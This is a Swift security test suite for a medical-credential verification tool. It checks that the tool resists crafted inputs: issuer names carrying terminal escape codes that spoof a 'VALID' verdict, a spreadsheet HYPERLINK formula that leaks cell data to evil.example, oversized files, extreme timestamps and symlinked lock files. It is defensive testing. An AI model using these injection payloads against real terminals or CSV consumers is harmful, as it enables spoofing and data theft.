import Foundation
import Testing
@testable import MedSealEncoding
@testable import MedSealModel
@testable import MedSealVerification
@testable import MedSealStore
@testable import MedSealRendering

/// The security round's findings (issue 24) as an attacker met them: crafted inputs to the
/// real executables.
@Suite("Security round through the executables")
struct SecurityRoundCommandLineTests {
    static let now = Date()

    /// A trust folder with one honest issuer, and a token of it.
    struct Station {
        let folder: String
        var store: String { folder + "/store" }
        let honest: IssuerSigningKey

        init() throws {
            folder = try Tool.temporaryFolder()
            honest = IssuerSigningKey.generate(issuer: "Honest Clinic", notBefore: SecurityRoundCommandLineTests.now.addingTimeInterval(-3_600),
                                               notAfter: SecurityRoundCommandLineTests.now.addingTimeInterval(86_400 * 400))
            try FileManager.default.createDirectory(atPath: store, withIntermediateDirectories: true)
            try honest.publicKey.fileData.write(to: URL(fileURLWithPath: store + "/honest.pub"))
        }

        func token(_ key: IssuerSigningKey? = nil) throws -> String {
            let document = try CredentialDocument.read(path: Tool.root + "/Templates/inputs/emergency.json", type: .emergency)
            return try CredentialIssuer(key: key ?? honest).issue(document, now: SecurityRoundCommandLineTests.now, lifetime: 86_400).token
        }

        func verifier(_ arguments: [String], stdin: String? = nil) throws -> Tool.Output {
            try Tool.medseal("medseal-verify", arguments + ["--trust", store], stdin: stdin)
        }
    }

    static let paint = "\u{1B}[2J\u{1B}[H\u{1B}[1;97;42m   VALID   \u{1B}[0m\n\nPatient: Fake Person\n\u{202E}"

    @Test func aForgedIssuerNameNeverReachesTheTerminalAsControlCharacters() throws {
        let station = try Station()
        let forger = IssuerSigningKey.generate(issuer: "Evil" + Self.paint, notBefore: Self.now.addingTimeInterval(-3_600), notAfter: Self.now.addingTimeInterval(86_400))
        let forged = try station.token(forger)
        let log = station.folder + "/audit.log"
        for arguments in [[forged], ["--json", forged], [forged, "--audit", "--audit-log", log]] {
            let result = try station.verifier(arguments)
            #expect(result.status == 1)
            #expect(!(result.stdout + result.stderr).unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x202E }, "\(arguments[0].prefix(6))")
            #expect(!result.stdout.contains("\n\nPatient: Fake"))
        }
        let scan = try station.verifier(["scan", "--audit-log", log], stdin: forged + "\n" + (try station.token()) + "\n")
        #expect(!scan.stdout.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x202E } && scan.stdout.contains("Scans: 2 · valid 1"), "\(scan.stdout)")
        for arguments in [["audit", "show", "--audit-log", log], ["audit", "show", "--json", "--audit-log", log]] {
            let shown = try station.verifier(arguments)
            #expect(shown.status == 0 && shown.stdout.contains("Evil") && !shown.stdout.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x202E })
        }
    }

    @Test func batchReportsNeutraliseFormulasAndStreamTheirInput() throws {
        let station = try Station()
        let forger = IssuerSigningKey.generate(issuer: "=HYPERLINK(\"http://evil.example/?\"&A1)", notBefore: Self.now.addingTimeInterval(-3_600), notAfter: Self.now.addingTimeInterval(86_400))
        try (try station.token(forger) + "\n" + (try station.token()) + "\n").write(toFile: station.folder + "/scans.txt", atomically: true, encoding: .utf8)
        let report = try station.verifier(["batch", station.folder + "/scans.txt", "--no-audit"])
        #expect(report.status == 1 && report.stdout.contains("'=HYPERLINK(") && !report.stdout.contains(",=HYPERLINK") && !report.stdout.contains(",\"=HYPERLINK"), "\(report.stdout)")
        // 8 MB of short lines, and one line of 64 MB, under a 700 MB address-space limit (the
        // whole-file reader used about 190 times the input for such files).
        let short = station.folder + "/short.txt", long = station.folder + "/long.txt"
        FileManager.default.createFile(atPath: short, contents: Data(String(repeating: "MS1:NOT-A-TOKEN-BUT-SHORT-ENOUGH-0123456\n", count: 200_000).utf8))
        FileManager.default.createFile(atPath: long, contents: Data(repeating: 0x41, count: 64 << 20) + Data(("\n" + (try station.token()) + "\n").utf8))
        for (file, expected) in [(short, "200000 tokens"), (long, "2 tokens")] {
            let bounded = try Tool.run("bash", ["-c", "ulimit -v 700000 && exec \"$0\" batch \"$1\" --trust \"$2\" --no-audit --out \"$1.csv\"", Tool.binaries + "/medseal-verify", file, station.store])
            #expect(bounded.status == 1 && bounded.stderr.contains(expected), "\(bounded.stderr)")
        }
        #expect(try Tool.read(long + ".csv").contains("longer than 64 KiB"))
    }

    @Test func tokensWithTimesAtTheLimitsNeverCrashAnyMode() throws {
        let station = try Station()
        let document = try CredentialDocument.read(path: Tool.root + "/Templates/inputs/emergency.json", type: .emergency)
        var claims = try CredentialIssuer(key: station.honest).issue(document, now: Self.now, lifetime: 86_400).claims
        claims.expiresAt = Int64.max
        claims.issuedAt = Int64.min
        let extreme = CredentialIssuer(key: station.honest).sign(payload: CBORWriter.encode(claims.cbor))
        #expect(try station.verifier([extreme]).status == 2)
        let scan = try station.verifier(["scan", "--no-audit"], stdin: extreme + "\n" + (try station.token()) + "\n")
        #expect(scan.status == 0 && scan.stdout.contains("Scans: 2 · valid 1"), "\(scan.stdout)")
        try (extreme + "\n").write(toFile: station.folder + "/t.txt", atomically: true, encoding: .utf8)
        #expect(try station.verifier(["batch", station.folder + "/t.txt", "--no-audit"]).status == 1)
    }

    @Test func twoKeyCreationsAtOnceGiveOneKey() throws {
        let folder = try Tool.temporaryFolder()
        for round in 0..<16 {
            let out = "\(folder)/\(round)"
            let both = try Tool.run("bash", ["-c", "\"$0\" key new --issuer A --out \"$1\" >/dev/null 2>&1 & a=$!; \"$0\" key new --issuer B --out \"$1\" >/dev/null 2>&1 & b=$!; wait $a; x=$?; wait $b; y=$?; echo $x $y", Tool.binaries + "/medseal", out])
            let statuses = both.stdout.split(separator: " ").compactMap { Int($0.trimmingCharacters(in: .whitespacesAndNewlines)) }
            #expect(statuses.sorted() == [0, 4], "round \(round): exactly one creation succeeds, the other says the key exists (\(both.stdout))")
            let secret = try IssuerSigningKey.load(path: out + "/issuer.key")
            let published = try IssuerKey(fileData: try Data(contentsOf: URL(fileURLWithPath: out + "/issuer.pub")), name: "pub")
            #expect(secret.publicKey.publicKey == published.publicKey && secret.publicKey.issuer == published.issuer)
        }
    }

    @Test func anUnwritableLogStillShowsTheVerdictAndALinkedLockIsRefused() throws {
        let station = try Station()
        let token = try station.token()
        try FileManager.default.createDirectory(atPath: station.folder + "/log-is-a-folder", withIntermediateDirectories: true)
        let result = try station.verifier([token, "--audit", "--audit-log", station.folder + "/log-is-a-folder"])
        #expect(result.status == 4 && result.stdout.hasPrefix("VALID") && result.stderr.contains("AUDIT LOG NOT WRITTEN"))
        try FileManager.default.createSymbolicLink(atPath: station.store + "/.lock", withDestinationPath: station.folder + "/elsewhere")
        let added = try Tool.medseal("medseal-verify", ["trust", "add", station.store + "/honest.pub", "--trust", station.store])
        #expect(added.status == 4 && added.stderr.contains("symbolic link"))
        #expect(!FileManager.default.fileExists(atPath: station.folder + "/elsewhere"))
    }

    @Test func passphrasesAreCheckedWhereTheyApply() throws {
        let folder = try Tool.temporaryFolder()
        try "          \n".write(toFile: folder + "/spaces.txt", atomically: true, encoding: .utf8)
        let spaces = try Tool.medseal("medseal", ["key", "new", "--issuer", "P", "--out", folder + "/k", "--passphrase-file", folder + "/spaces.txt"])
        #expect(spaces.status == 3 && spaces.stderr.contains("not spaces"))
        #expect(try Tool.medseal("medseal", ["key", "new", "--issuer", "P", "--out", folder + "/plain"]).status == 0)
        try "a real passphrase\n".write(toFile: folder + "/pass.txt", atomically: true, encoding: .utf8)
        let ignored = try Tool.medseal("medseal", ["issue", "emergency", "--key", folder + "/plain/issuer.key", "--in", Tool.root + "/Templates/inputs/emergency.json", "--passphrase-file", folder + "/pass.txt"])
        #expect(ignored.status == 2 && ignored.stderr.contains("not encrypted"))
        let named = try Tool.medseal("medseal", ["key", "new", "--issuer", "Evil\u{1B}[2J", "--out", folder + "/evil"])
        #expect(named.status == 2 && !named.stderr.contains("\u{1B}"))
    }
}
